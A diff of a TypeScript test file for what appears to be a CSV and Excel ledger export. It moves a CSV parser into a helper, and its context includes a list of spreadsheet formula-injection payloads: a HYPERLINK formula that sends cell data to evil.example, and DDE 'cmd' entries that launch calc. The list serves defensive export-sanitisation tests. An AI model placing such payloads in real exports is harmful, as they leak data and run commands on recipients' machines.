@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import request from 'supertest';
 import ExcelJS from 'exceljs';
 import { applicationBody, arrayBufferOf, createTestEnv, type TestEnv } from '../helpers/test-app.js';
+import { parseCsv } from '../helpers/csv.js';
 import { settleExportJobs } from '../../server/reports/export-jobs.js';
 import { csvSink, LEDGER_COLUMNS } from '../../server/reports/annual-ledger.js';
 
@@ -14,26 +15,6 @@ const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => 
   res.on('end', () => cb(null, Buffer.concat(chunks)));
 };
 
-/** RFC 4180 reader: quoted fields, doubled quotes, CRLF between records. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; }
-      else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') { row.push(field); field = ''; }
-    else if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
-    else field += ch;
-  }
-  if (field !== '' || row.length) { row.push(field); rows.push(row); }
-  return rows;
-}
 
 const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
 
